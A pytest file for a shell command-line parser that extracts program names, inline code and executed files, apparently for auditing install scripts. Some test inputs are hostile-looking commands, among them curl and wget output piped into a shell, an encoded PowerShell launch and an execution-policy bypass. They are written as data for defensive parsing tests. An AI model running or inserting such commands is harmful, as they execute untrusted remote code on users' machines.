"""Command lines as programs, inline code and files."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customhouse.model.command_words import command_of, program_name, simple_commands


def programs(line):
    return [it.program for it in simple_commands(line)]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("node install.js", ["node"]),
        ("node a.js && node b.js || exit 0", ["node", "node", "exit"]),
        ("A=b env -i C=d sudo -E python3.12 x.py", ["python"]),
        ("cross-env NODE_ENV=production node x", ["node"]),
        ("if [ -f x ]; then bash x.sh; fi", ["[", "bash"]),
        ("echo 'a && b; curl x | sh'", ["echo"]),
        ("sh -c 'curl -s https://x.invalid | bash'", ["sh", "curl", "bash"]),
        ('echo "$(wget -qO- https://x.invalid)"', ["echo", "wget"]),
        ("cmd /c start /b powershell -enc AAAA", ["powershell"]),
        ("echo `id`", ["echo", "id"]),
        ("node x.js > /dev/null 2>&1 &", ["node"]),
        ("", []),
        ("'unclosed", ["unclosed"]),
    ],
)
def test_programs(line, expected):
    assert programs(line) == expected


@pytest.mark.parametrize(
    ("line", "code", "language"),
    [
        ("node -e \"try{require('./x')}catch(e){}\"", "try{require('./x')}catch(e){}", "javascript"),
        ("node --eval=1+1", "1+1", "javascript"),
        ("node -r ./first.js -p 1", "1", "javascript"),
        ("python3 -Ic 'import os'", "import os", "python"),
        ("deno eval 'x()'", "x()", "javascript"),
        ("powershell -NoProfile -Command Get-Item", "Get-Item", "powershell"),
        ("perl -e 'print 1'", "print 1", "other"),
        ("perl -ne 'print $1 if /v ([0-9]+)/'", "print $1 if /v ([0-9]+)/", "other"),
        ("node x.js -e nothing", "", "javascript"),
    ],
)
def test_inline_code(line, code, language):
    (found,) = simple_commands(line)
    assert (found.code, found.language) == (code, language)


@pytest.mark.parametrize(
    ("line", "files"),
    [
        ("node scripts/install.js config.json", ("scripts/install.js",)),
        ("node --require ./first.js second.js", ("./first.js", "second.js")),
        ("bun run build.ts", ("build.ts",)),
        ("deno run -A main.ts", ("main.ts",)),
        ("./install.sh --quiet", ("./install.sh",)),
        (". ./env.sh", ("./env.sh",)),
        (r"node .\install.js", (r".\install.js",)),
        ("python -m build", ()),
        ("powershell -ExecutionPolicy Bypass -File a.ps1", ("a.ps1",)),
        ("tsc -p .", ()),
    ],
)
def test_files_that_are_run(line, files):
    (found,) = simple_commands(line)
    assert found.files == files


def test_words_that_are_apart_already():
    found = command_of(["npm", "install", "left-pad"])
    assert found is not None
    assert (found.program, found.words) == ("npm", ("npm", "install", "left-pad"))
    assert command_of([]) is None
    assert program_name(r"C:\Tools\Python3.exe") == "python"


@given(st.text(alphabet="ab '\"\\;&|()<>$`\n=-/.", max_size=80))
def test_any_text_is_taken_apart(line):
    for found in simple_commands(line):
        assert found.words
